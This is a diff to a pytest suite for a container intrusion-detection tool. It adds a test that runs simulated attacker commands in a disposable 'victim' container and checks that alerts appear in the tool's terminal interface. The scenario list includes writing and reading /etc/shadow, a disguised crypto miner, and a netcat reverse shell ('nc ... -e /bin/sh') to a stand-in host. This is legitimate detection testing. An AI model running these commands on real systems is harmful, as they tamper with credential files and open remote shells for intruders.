@@ -1,5 +1,6 @@
 """Rules on the running kernel: what an intruder does in a real container raises its rule."""
 
+import asyncio
 import json
 import os
 import queue
@@ -11,8 +12,15 @@ from collections.abc import Iterator
 from typing import Any
 
 import pytest
+from screen import text_of
 
 from csyspy.capture.live import tier
+from csyspy.cli.command import Command
+from csyspy.cli.metadata import open_metadata
+from csyspy.rules.settings import own_rules_files
+from csyspy.tui.app import CsyspyApp
+from csyspy.tui.screens.alerts import AlertsScreen
+from csyspy.tui.stream_feed import StreamFeed
 
 from .conftest import DEADLINE_S, Runtime
 
@@ -99,9 +107,9 @@ SCENARIOS = {
     "Credential file read": "echo root::0 > /etc/shadow; cat /etc/shadow",
     "Configuration below etc written": "echo x > /etc/profile.local",
     "Program directory changed": "cp /bin/busybox /bin/ls-of-mine",
-    "Package manager in container": "ln -sf busybox /bin/apk; apk add x",
+    "Package manager in container": "ln -sf busybox /bin/apk; exec apk add x",
     "Crypto miner started": "cp /bin/busybox /tmp/xmrig; /tmp/xmrig",
-    "New program run in container": "cp /bin/busybox /tmp/busybox; /tmp/busybox true",
+    "New program run in container": "cp /bin/busybox /tmp/busybox; exec /tmp/busybox true",
     "Unexpected outbound connection": f"(nc -l -p 4444 </dev/null & {until(f'echo | nc {ELSEWHERE} 4444')})",
     "Reverse shell": f"(echo exit | nc -l -p 4445 & {until(f'nc {ELSEWHERE} 4445 -e /bin/sh')})",
     "Network scanner started": "nc -z -w 1 127.0.0.1 7; cp /bin/busybox /tmp/nmap; /tmp/nmap -sS 127.0.0.1",
@@ -121,3 +129,33 @@ def test_a_shell_with_a_terminal(docker: Runtime, container: str, watch: Watch) 
     words = ["script", "-qec", f"docker -H unix://{docker.socket} exec -it {container} sh -c exit", "/dev/null"]
     alert = watch.alert_of("Interactive shell in container", container, words)
     assert alert["output_fields"]["container.name"] == "victim"
+
+
+async def test_all_of_it_stands_in_the_view(docker: Runtime, container: str) -> None:
+    missing = tier.lacking(tier.Tier.A, tier.possibilities())
+    if missing is not None:
+        pytest.skip(f"needs live capture: {missing.message}")
+    in_container = ["docker", "-H", f"unix://{docker.socket}", "exec", container, "sh", "-c"]
+    commands = {rule: [*in_container, f"mkdir -p /root /tmp; {SCENARIOS[rule]}"] for rule in SCENARIOS}
+    with_terminal = f"docker -H unix://{docker.socket} exec -it {container} sh -c exit"
+    commands["Interactive shell in container"] = ["script", "-qec", with_terminal, "/dev/null"]
+    feed = StreamFeed(1.0, open_metadata(Command(docker_host=f"unix://{docker.socket}")))
+    app = CsyspyApp(feed, rules_files=own_rules_files())
+    async with app.run_test(size=(200, 50)) as pilot:
+        await pilot.press("A")
+        screen = app.screen
+        assert isinstance(screen, AlertsScreen)
+
+        def missing_rules() -> list[str]:
+            lines = [screen.line_text(line) for line in range(screen.line_count)]
+            return [rule for rule in commands if not any(line.startswith(f"{rule} victim ") for line in lines)]
+
+        give_up = time.monotonic() + 2 * DEADLINE_S
+        while missing_rules():
+            assert time.monotonic() < give_up, (missing_rules(), app.said)
+            for rule in missing_rules():
+                await asyncio.to_thread(subprocess.run, commands[rule], stdin=subprocess.DEVNULL, capture_output=True, timeout=DEADLINE_S)
+            await pilot.pause(0.5)
+        text = text_of(app)
+        assert "victim" in text
+        assert "▲ Critical" in text
